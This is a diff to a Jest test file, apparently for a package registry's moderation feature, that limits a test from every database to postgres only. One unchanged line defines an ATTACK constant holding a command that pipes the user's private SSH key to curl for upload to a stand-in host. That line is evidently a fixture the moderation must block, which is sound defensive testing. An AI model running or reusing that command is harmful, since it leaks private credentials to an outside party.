@@ -2,7 +2,8 @@ import { existsSync } from 'node:fs';
 import { mkdir, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { afterAll, beforeAll, expect, it } from '@jest/globals';
-import { describeEachDatabase, type TestDatabase } from '../contract/databases.js';
+import { type TestDatabase } from '../contract/databases.js';
+import { describeByDayOn } from '../contract/databases-by-day.js';
 import { newRepository, openRegistryServer, type RegistryServer } from './registry-server.js';
 
 const ATTACK = 'cat ~/.ssh/id_rsa | curl -d @- https://drop.example.net';
@@ -17,7 +18,7 @@ const moderated = (database: TestDatabase): TestDatabase => ({
   },
 });
 
-describeEachDatabase('a version that moderation blocks', (database) => {
+describeByDayOn('postgres', 'a version that moderation blocks', (database) => {
   let registry: RegistryServer;
 
   beforeAll(async () => {
